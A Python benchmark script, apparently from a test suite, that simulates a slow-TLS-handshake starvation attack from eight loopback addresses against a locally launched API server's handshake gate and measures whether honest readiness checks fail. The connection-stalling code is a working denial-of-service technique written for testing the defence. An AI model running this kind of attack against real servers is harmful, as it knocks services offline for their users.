"""Starve kube-apiserver's availability check at the HandshakeGate from 8 addresses.

Each of 8 attacker addresses keeps a stock of connections that sent one byte of a ClientHello
(heard, so they queue at the gate) and then nothing. One per address computes (no address
leads by two, so nobody preempts); each is dropped after its 1 s turn, and the freed place goes
to the waiting address computing the fewest, ties to the oldest: the same attacker address's
next stalled connection, older than the honest one. The honest 5 wait until the stock ages out.

    .venv/bin/python -m bench.gate_attacks.gate_starve --seconds 30 --stock 7
"""

from __future__ import annotations

import argparse
import asyncio
import os
import socket
import ssl
import tempfile
import time
from pathlib import Path

from bench import servers
from bench.attacks import tcp_connection

ATTACKERS = [f"127.0.0.{i}" for i in range(2, 10)]


def descriptors(pid: int) -> int:
    """How many file descriptors process ``pid`` holds."""
    return len(os.listdir(f"/proc/{pid}/fd"))


async def connected_from(port: int, source: str) -> socket.socket | None:
    """A TCP connection to the server from ``source`` (one of the attackers' addresses), or None
    if it could not be made (refused, reset: the attacker just tries again)."""
    try:
        return await tcp_connection("127.0.0.1", port, source=source)
    except OSError:
        return None


async def stalled(port: int, source: str, opened: list[int]) -> None:
    """One connection from ``source`` that sends a ClientHello's first byte, then waits to be closed."""
    loop = asyncio.get_running_loop()
    if (sock := await connected_from(port, source)) is None:
        return
    try:
        opened[0] += 1
        await loop.sock_sendall(sock, b"\x16")
        while await loop.sock_recv(sock, 4096):
            pass
    except OSError:
        pass
    finally:
        sock.close()


async def keep_stock(port: int, source: str, stock: int, stop: asyncio.Event, opened: list[int]) -> None:
    live: set[asyncio.Task[None]] = set()
    while not stop.is_set():
        while len(live) < stock:
            task = asyncio.create_task(stalled(port, source, opened))
            live.add(task)
            task.add_done_callback(live.discard)
            await asyncio.sleep(0.002)  # keep arrival order within the address
        await asyncio.sleep(0.01)
    for task in list(live):
        task.cancel()
    await asyncio.gather(*live, return_exceptions=True)


async def attempt(port: int, context: ssl.SSLContext, path: str) -> tuple[float, str]:
    began = time.perf_counter()
    try:
        async with asyncio.timeout(5.0):
            reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context, local_addr=("127.0.0.1", 0))
            writer.write(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
            line = await reader.readline()
            writer.close()
            return time.perf_counter() - began, line[:12].decode(errors="replace").strip()
    except TimeoutError:
        return time.perf_counter() - began, "timeout 5s"
    except (OSError, ssl.SSLError) as err:
        return time.perf_counter() - began, type(err).__name__


async def run(
    port: int, context: ssl.SSLContext, path: str, seconds: float, stock: int, pid: int, addresses: int = 8
) -> None:
    stop = asyncio.Event()
    opened = [0]
    fd_before = descriptors(pid)
    print("baseline check:", [await attempt(port, context, path) for _ in range(2)])
    attackers = [
        asyncio.create_task(keep_stock(port, a, stock, stop, opened))
        for a in [f"127.0.0.{i}" for i in range(2, 2 + addresses)]
    ]
    await asyncio.sleep(1.5)  # the stock is in place
    end = time.monotonic() + seconds
    checks = failed = 0
    while time.monotonic() < end:
        results = await asyncio.gather(*(attempt(port, context, path) for _ in range(5)))
        checks += 1
        ok = [r for r in results if r[1].startswith("HTTP/1.1 2")]
        if not ok:
            failed += 1
        print(f"check {checks}: {[(round(t, 2), s) for t, s in results]}")
        await asyncio.sleep(1.0)
    stop.set()
    await asyncio.gather(*attackers)
    await asyncio.sleep(1.0)
    print(f"checks {checks}, all-5-failed {failed}, attacker connections {opened[0]}")
    print(f"server fds before {fd_before}, after {descriptors(pid)}")
    print("after the attack:", [await attempt(port, context, path) for _ in range(2)])


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--stock", type=int, default=7)
    parser.add_argument("--addresses", type=int, default=8, help="127.0.0.2 on (at most 19)")
    args = parser.parse_args()
    args.seconds = min(args.seconds, 60)
    with tempfile.TemporaryDirectory() as tmp:
        cert_dir = servers.serving_certs(Path(tmp))
        with servers.ours(cert_dir, pin=False) as server:
            port = int(server.url.rsplit(":", 1)[1])
            pid = server.pid
            assert pid is not None
            asyncio.run(
                run(
                    port,
                    servers.client_context(cert_dir),
                    "/readyz",
                    args.seconds,
                    args.stock,
                    pid,
                    min(args.addresses, 19),
                )
            )


if __name__ == "__main__":
    main()
